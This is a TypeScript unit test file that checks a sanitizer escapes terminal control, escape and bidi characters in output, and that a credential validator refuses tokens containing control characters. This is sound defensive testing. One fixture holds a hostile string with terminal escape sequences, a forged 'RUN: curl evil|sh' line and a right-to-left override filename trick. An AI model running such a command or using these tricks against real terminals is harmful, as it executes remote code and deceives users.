// The one terminal/log sanitizer, by class of character, and the credential check that
// refuses C1 controls like C0 ones (a credential is validated, never sanitized).
import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import { checkCredential } from '../../src/broker/validate.js'
import { CcredError } from '../../src/errors.js'
import { formatTable } from '../../src/output/table.js'
import { hasControlChars, hasUnsafeChars, sanitizeLine, stringifyJsonSafely } from '../../src/text/sanitize.js'

/** Every character a terminal or a log must never get raw, by class. */
const UNSAFE_CLASSES: Record<string, string[]> = {
  'C0 controls': ['\u0000', '\u0001', '\u0007', '\u0008', '\u000b', '\u000c', '\u001a', '\u001f'],
  ESC: ['\u001b'],
  DEL: ['\u007f'],
  'C1 controls': ['\u0080', '\u0085', '\u008d', '\u0090', '\u009b', '\u009c', '\u009d', '\u009f'],
  'bidi embeddings and overrides': ['\u202a', '\u202b', '\u202c', '\u202d', '\u202e'],
  'bidi isolates': ['\u2066', '\u2067', '\u2068', '\u2069'],
  'bidi marks': ['\u200e', '\u200f', '\u061c'],
  'line and paragraph separators': ['\u2028', '\u2029'],
}

/** A raw unsafe character, as the test of the output bytes looks for it. */
const RAW_UNSAFE = /[\u0000-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/

describe('sanitizeLine', () => {
  for (const [name, chars] of Object.entries(UNSAFE_CLASSES)) {
    it(`escapes ${name} so they are seen, not obeyed`, () => {
      for (const char of chars) {
        const line = sanitizeLine(`a${char}b`)
        assert.ok(!RAW_UNSAFE.test(line), `U+${char.charCodeAt(0).toString(16)} reached the output raw`)
        assert.ok(hasUnsafeChars(char), `U+${char.charCodeAt(0).toString(16)} is not seen as unsafe`)
        const code = char.charCodeAt(0)
        const escaped = code <= 0xff ? `\\x${code.toString(16).padStart(2, '0')}` : `\\u${code.toString(16).padStart(4, '0')}`
        assert.equal(line, `a${escaped}b`)
      }
    })
  }

  it('turns line breaks and tabs into spaces: one line stays one line', () => {
    assert.equal(sanitizeLine('one\ntwo\r\nthree\tfour'), 'one two  three four')
  })

  it('leaves printable text alone, including non-Latin scripts and emoji', () => {
    for (const text of ['plain ASCII: ~!@#$%^&*()_+{}|:"<>?', 'démo — ä ö ü ß', 'שלום עולם', 'مرحبا', '日本語', '😀 👍🏽', '\u00a0nbsp\u00ff']) {
      assert.equal(sanitizeLine(text), text)
      assert.equal(hasUnsafeChars(text), false, text)
    }
  })

  it('forged lines and terminal tricks come out inert', () => {
    const hostile = 'ok\u001b]0;owned\u0007\u001b[2J\r\nRUN: curl evil|sh \u009b31m red \u202eexe.txt'
    const line = sanitizeLine(hostile)
    assert.ok(!RAW_UNSAFE.test(line))
    assert.ok(!line.includes('\n'))
    assert.match(line, /\\x1b\]0;owned\\x07\\x1b\[2J {2}RUN: curl evil\|sh \\x9b31m red \\u202eexe\.txt/)
  })

  it('a line exactly maxChars long is kept whole; one more character and it is cut with …', () => {
    assert.equal(sanitizeLine('abcd', 4), 'abcd')
    assert.equal(sanitizeLine('abcde', 4), 'abc…')
  })

  it('cuts after escaping, so a cut never leaves half an escape live', () => {
    const line = sanitizeLine(`${'x'.repeat(9)}\u001b[31m`, 12)
    assert.equal(line.length, 12)
    assert.ok(!RAW_UNSAFE.test(line))
    assert.ok(line.endsWith('…'))
    assert.equal(sanitizeLine('short', 12), 'short')
  })
})

describe('stringifyJsonSafely', () => {
  it('escapes every unsafe class in JSON and reads back to the same value', () => {
    const value = { name: Object.values(UNSAFE_CLASSES).flat().join(''), nested: ['a\u009bb', { c: '\u202e' }], n: 1 }
    for (const space of [undefined, 2]) {
      const text = stringifyJsonSafely(value, space)
      assert.ok(!RAW_UNSAFE.test(text.replace(/\n/g, '')), 'a raw unsafe character in the JSON')
      assert.deepEqual(JSON.parse(text), value)
    }
  })
})

describe('formatTable', () => {
  it('sanitizes every cell (names, descriptions, errors come from config and upstreams)', () => {
    const table = formatTable([['PROFILE', 'DESCRIPTION'], ['x\u001b[31m', 'evil\u009b2J\u202e']])
    assert.ok(!RAW_UNSAFE.test(table.replace(/\n/g, '')))
    assert.match(table, /x\\x1b\[31m {2}evil\\x9b2J\\u202e/)
  })
})

describe('credentials: validated, never sanitized', () => {
  const refusal = (value: string): CcredError => {
    try {
      checkCredential({ kind: 'token', value }, 'profile p', 0)
    } catch (error) {
      assert.ok(error instanceof CcredError)
      return error
    }
    assert.fail(`accepted ${JSON.stringify(value)}`)
  }

  it('refuses C1 controls (U+009B among them) with the same code and message as C0 ones', () => {
    const c0 = refusal('sk-abc\u001bdef')
    assert.equal(c0.code, 'ERR_SOURCE_OUTPUT')
    for (const char of UNSAFE_CLASSES['C1 controls']!) {
      const c1 = refusal(`sk-abc${char}def`)
      assert.equal(c1.code, c0.code)
      assert.equal(c1.message, c0.message)
      assert.ok(!c1.message.includes(char), 'the message quotes the credential')
      assert.equal(hasControlChars(char), true)
    }
    for (const char of [...UNSAFE_CLASSES['C0 controls']!, '\u007f']) assert.equal(refusal(`sk${char}x`).code, 'ERR_SOURCE_OUTPUT')
  })

  it('accepts a printable credential unchanged, non-ASCII in a Basic user:password (sent in base64)', () => {
    for (const value of ['sk-live-0123456789abcdef', 'Basic dXNlcjpwYXNz']) {
      assert.doesNotThrow(() => checkCredential({ kind: 'token', value }, 'profile p', 0))
    }
    // A Bearer token outside ASCII is refused by the header grammar: test/unit/header-grammar.test.ts.
    assert.doesNotThrow(() => checkCredential({ kind: 'token', value: 'ann:tøken-ä', scheme: 'Basic' }, 'profile p', 0))
  })
})
